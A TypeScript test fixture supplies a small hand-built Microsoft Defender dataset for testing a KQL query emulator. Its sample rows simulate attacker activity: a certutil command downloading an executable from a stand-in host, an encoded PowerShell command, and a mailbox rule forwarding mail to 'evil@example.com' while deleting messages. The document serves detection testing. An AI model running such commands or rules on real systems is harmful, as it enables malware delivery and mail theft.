/**
 * A tiny, fixed dataset for executor tests: every expected result in the tests is worked out by
 * hand from these rows. Columns not given are null ("" for strings), as in the sample data.
 */
import { defenderSchema, findTable } from '../../src/core/schema/schema';
import { buildGlobals } from '../../src/kusto/kusto';
import type { TableSource } from '../../src/emulator/executor/context';
import { executeQuery, type QueryOutput } from '../../src/emulator/executor/execute';
import { parseDateTime } from '../../src/emulator/executor/time';
import type { Table, Value } from '../../src/emulator/executor/values';
import { toRow, type Rec } from '../../src/emulator/data/rows';

export const T0 = parseDateTime('2024-05-01T10:00:00Z') as number;
export const HOUR = 36_000_000_000;
/** `now()` of the fixture queries: one day after T0. */
export const NOW = T0 + 24 * HOUR;

function table(name: string, records: Rec[]): Table {
  const t = findTable(defenderSchema(), name);
  if (!t) throw new Error(`no table ${name}`);
  return { columns: t.columns, rows: records.map((r, i) => toRow(t.columns, r, i)) };
}

export const TABLES: Record<string, Table> = {
  DeviceProcessEvents: table('DeviceProcessEvents', [
    { Timestamp: T0, DeviceId: 'd1', DeviceName: 'pc1', FileName: 'cmd.exe', ProcessCommandLine: 'cmd.exe /c whoami', AccountName: 'alice', ProcessId: 10, FileSize: 100, InitiatingProcessFileName: 'explorer.exe' },
    { Timestamp: T0 + HOUR, DeviceId: 'd1', DeviceName: 'pc1', FileName: 'powershell.exe', ProcessCommandLine: 'powershell.exe -enc SQBFAFgA', AccountName: 'alice', ProcessId: 11, FileSize: 300, InitiatingProcessFileName: 'cmd.exe' },
    { Timestamp: T0 + 2 * HOUR, DeviceId: 'd2', DeviceName: 'pc2', FileName: 'certutil.exe', ProcessCommandLine: 'certutil -urlcache -f http://x/a.exe a.exe', AccountName: 'bob', ProcessId: 12, FileSize: 200, InitiatingProcessFileName: 'cmd.exe' },
    { Timestamp: T0 + 3 * HOUR, DeviceId: 'd2', DeviceName: 'pc2', FileName: 'CMD.EXE', ProcessCommandLine: 'CMD.EXE /c dir', AccountName: 'bob', ProcessId: null, FileSize: null, InitiatingProcessFileName: 'explorer.exe', AdditionalFields: '{"a":{"b":[1,2,3]},"s":"x"}' },
  ]),
  DeviceInfo: table('DeviceInfo', [
    { Timestamp: T0, DeviceId: 'd1', DeviceName: 'pc1', OSPlatform: 'Windows11', PublicIP: '203.0.113.1' },
    { Timestamp: T0, DeviceId: 'd3', DeviceName: 'pc3', OSPlatform: 'Linux', PublicIP: '203.0.113.3' },
  ]),
  DeviceNetworkEvents: table('DeviceNetworkEvents', [
    { Timestamp: T0 + HOUR, DeviceId: 'd1', DeviceName: 'pc1', RemoteIP: '10.0.0.5', RemotePort: 445, RemoteUrl: '', InitiatingProcessFileName: 'powershell.exe' },
    { Timestamp: T0 + 2 * HOUR, DeviceId: 'd2', DeviceName: 'pc2', RemoteIP: '198.51.100.23', RemotePort: 80, RemoteUrl: 'http://x/a.exe', InitiatingProcessFileName: 'certutil.exe' },
  ]),
  CloudAppEvents: table('CloudAppEvents', [
    { Timestamp: T0, ActionType: 'New-InboxRule', AccountDisplayName: 'Alice', RawEventData: { Parameters: [{ Name: 'ForwardTo', Value: 'evil@example.com' }, { Name: 'DeleteMessage', Value: 'True' }] }, ActivityObjects: [{ Type: 'Rule' }, { Type: 'Mailbox' }] },
  ]),
};

export const fixtureSource: TableSource = { table: (name) => TABLES[name], tableNames: () => Object.keys(TABLES) };

let globals: Kusto.Language.GlobalState | undefined;

export function run(query: string, source: TableSource = fixtureSource): QueryOutput {
  globals ??= buildGlobals(defenderSchema());
  return executeQuery(query, globals, { source, now: NOW });
}

/** Rows of a query's result. */
export function rows(query: string): Value[][] {
  return run(query).table.rows.map((r) => [...r]);
}

/** Rows as objects keyed by column name. */
export function objects(query: string): Record<string, Value>[] {
  const t = run(query).table;
  return t.rows.map((r) => Object.fromEntries(t.columns.map((c, i) => [c.name, r[i]])));
}

export function columns(query: string): string[] {
  return run(query).table.columns.map((c) => `${c.name}:${c.type}`);
}
